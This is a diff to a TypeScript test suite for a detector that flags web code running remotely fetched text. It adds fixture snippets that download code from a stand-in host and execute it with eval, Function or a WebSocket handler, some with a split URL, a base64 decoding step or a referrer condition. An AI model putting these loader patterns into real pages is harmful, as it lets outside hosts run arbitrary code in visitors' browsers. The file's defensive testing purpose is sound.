@@ -23,6 +23,34 @@ const cases: Record<string, [string, string[]]> = {
     `new Image().src='https://x.example/p.gif';fetch('https://x.example/app.js').then(function(r){return r.text()}).then(function(t){eval(t)})`,
     ['low answer-run-as-code'],
   ],
+  'an answer from a host in pieces': [
+    `fetch('https://sta'+'ts-cd'+'n.example/a').then(function(r){return r.json()})`,
+    ['medium script-from-decoded-url'],
+  ],
+  'an answer that is decoded and run': [
+    `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){Function(atob(t))()})`,
+    ['medium answer-run-as-code', 'low decoded-code-executed'],
+  ],
+  'an answer that is run for visitors from elsewhere': [
+    `if(document.referrer){var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};x.open('GET','https://x.example/a');x.send()}`,
+    ['high answer-run-as-code'],
+  ],
+  'an answer handed to a callback and run': [
+    `function get(u,cb){var x=new XMLHttpRequest();x.onload=function(){cb(x.responseText)};x.open('GET',u);x.send()}var c={get:get};c.get('/a',function(t){eval(t)})`,
+    ['low answer-run-as-code'],
+  ],
+  'code from a socket': [
+    `var w=new WebSocket('wss://x.example/');w.onmessage=function(e){new Function(e.data)()}`,
+    ['high answer-run-as-code'],
+  ],
+  'code fetched as text': [
+    `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){eval(t)})`,
+    ['low answer-run-as-code'],
+  ],
+  'JSON read the old way': [
+    `var x=new XMLHttpRequest();x.onload=function(){var d=eval('('+x.responseText+')')};x.open('GET','https://x.example/a');x.send()`,
+    [],
+  ],
 };
 
 describe('code in answers and pictures', () => {
